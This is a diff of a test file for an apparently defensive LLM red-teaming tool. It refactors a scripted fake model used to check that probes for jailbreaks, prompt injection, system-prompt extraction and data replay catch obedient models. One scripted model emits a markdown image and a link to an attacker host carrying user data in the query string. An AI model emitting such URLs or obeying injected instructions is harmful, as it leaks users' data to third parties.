@@ -5,12 +5,13 @@ from __future__ import annotations
 
 import base64
 import re
+from collections.abc import Callable
 
 import pytest
 
-from redline.attempt import Conversation, Message
+from fakes import ScriptedGenerator
+from redline.attempt import Conversation
 from redline.detectors import detectors
-from redline.generators.base import Generator
 from redline.probes import DEFAULT_PROBES, get_probe, probes, resolve_probes
 
 FAMILIES = ["jailbreak", "injection", "encoding", "harmful", "output", "leakage", "misinformation", "toxicity"]
@@ -108,7 +109,7 @@ def test_jailbreaks_wrap_every_harmful_request() -> None:
         probe = get_probe(name)
         texts = [i.prompts[0].text for i in probe.probe_items]
         assert len(texts) == len(REQUESTS)
-        for (category, request), text in zip(REQUESTS, texts):
+        for (_category, request), text in zip(REQUESTS, texts):
             assert request in text and text != request
         templates = {i.prompts[0].metadata.get("template") for i in probe.probe_items}
         assert len(templates) == len(probe.templates)
@@ -196,25 +197,16 @@ def test_replay_passages_and_false_premises_are_well_formed() -> None:
     from redline.probes.leakage import PASSAGES
     from redline.probes.misinformation import FALSE_PREMISES
 
-    for work, author, prefix, continuation in PASSAGES:
+    for _work, _author, prefix, continuation in PASSAGES:
         assert len(continuation.split()) >= 5 and prefix and continuation not in prefix
     for question, correct, accept in FALSE_PREMISES:
         assert question.endswith("?") and correct and accept
 
 
 # -- behaviour against scripted models -------------------------------------------------------------
-class Scripted(Generator):
-    """Answers with ``respond(conversation)``."""
-
-    family = "test.scripted"
-    local = True
-
-    def __init__(self, respond) -> None:
-        super().__init__("scripted")
-        self.respond = respond
-
-    async def generate(self, conversation: Conversation, n: int = 1) -> list[Message | None]:
-        return [Message(text=self.respond(conversation)) for _ in range(n)]
+def scripted(respond: Callable[[Conversation], str]) -> ScriptedGenerator:
+    """A local model that answers ``respond(conversation)``."""
+    return ScriptedGenerator(respond, name="test.scripted:scripted", local=True)
 
 
 def _obeys(conv: Conversation) -> str:
@@ -261,8 +253,8 @@ def _obeys(conv: Conversation) -> str:
     ],
 )
 async def test_detectors_separate_bad_and_good_models(name: str, bad: str, good: str) -> None:
-    failing = await get_probe(name, sample=4).run(Scripted(lambda c: bad))
-    passing = await get_probe(name, sample=4).run(Scripted(lambda c: good))
+    failing = await get_probe(name, sample=4).run(scripted(lambda c: bad))
+    passing = await get_probe(name, sample=4).run(scripted(lambda c: good))
     assert failing.metrics["failure_rate"].value == 1.0
     assert passing.metrics["failure_rate"].value == 0.0
 
@@ -276,11 +268,11 @@ async def test_injection_and_extraction_probes_catch_an_obedient_model() -> None
         return f"Done. {found[0]}" if found else _obeys(conv)
 
     for name in ("injection.Direct", "injection.Email", "injection.WebPage", "injection.RetrievedContext"):
-        assert (await get_probe(name, sample=5).run(Scripted(marker_model))).metrics["failure_rate"].value == 1.0
-        assert (await get_probe(name, sample=5).run(Scripted(lambda c: "The summary is short."))).metrics[
+        assert (await get_probe(name, sample=5).run(scripted(marker_model))).metrics["failure_rate"].value == 1.0
+        assert (await get_probe(name, sample=5).run(scripted(lambda c: "The summary is short."))).metrics[
             "failure_rate"
         ].value == 0.0
-    leak = await get_probe("injection.SystemPromptExtraction", sample=5).run(Scripted(_obeys))
+    leak = await get_probe("injection.SystemPromptExtraction", sample=5).run(scripted(_obeys))
     assert leak.metrics["failure_rate"].value == 1.0
 
 
@@ -290,8 +282,8 @@ async def test_exfiltration_probes_catch_a_rendered_attacker_url() -> None:
         return f"Summary done. ![x](https://{host}/p.png?d=Laura) [here](https://{host}/r?s=secret)"
 
     for name in ("output.MarkdownImageExfil", "output.LinkExfil"):
-        assert (await get_probe(name, sample=4).run(Scripted(exfil))).metrics["failure_rate"].value == 1.0
-        echo = await get_probe(name, sample=4).run(Scripted(lambda c: c.last_message("user").text))
+        assert (await get_probe(name, sample=4).run(scripted(exfil))).metrics["failure_rate"].value == 1.0
+        echo = await get_probe(name, sample=4).run(scripted(lambda c: c.last_message("user").text))
         assert echo.metrics["failure_rate"].value == 0.0, "a verbatim copy of the injection is not a hit"
 
 
@@ -305,13 +297,13 @@ async def test_replay_and_snowballing_score_correct_and_wrong_answers() -> None:
                 return f"{prefix} {continuation}"
         return ""
 
-    assert (await get_probe("leakage.Replay", sample=6).run(Scripted(recite))).metrics["failure_rate"].value == 1.0
-    assert (await get_probe("leakage.Replay", sample=6).run(Scripted(lambda c: "I don't remember."))).metrics[
+    assert (await get_probe("leakage.Replay", sample=6).run(scripted(recite))).metrics["failure_rate"].value == 1.0
+    assert (await get_probe("leakage.Replay", sample=6).run(scripted(lambda c: "I don't remember."))).metrics[
         "failure_rate"
     ].value == 0.0
 
     def always_yes(conv: Conversation) -> str:
         return "Yes, it is prime."
 
-    result = await get_probe("misinformation.Snowballing").run(Scripted(always_yes))
+    result = await get_probe("misinformation.Snowballing").run(scripted(always_yes))
     assert result.metrics["failure_rate"].value == 0.5  # half the numbers are composite
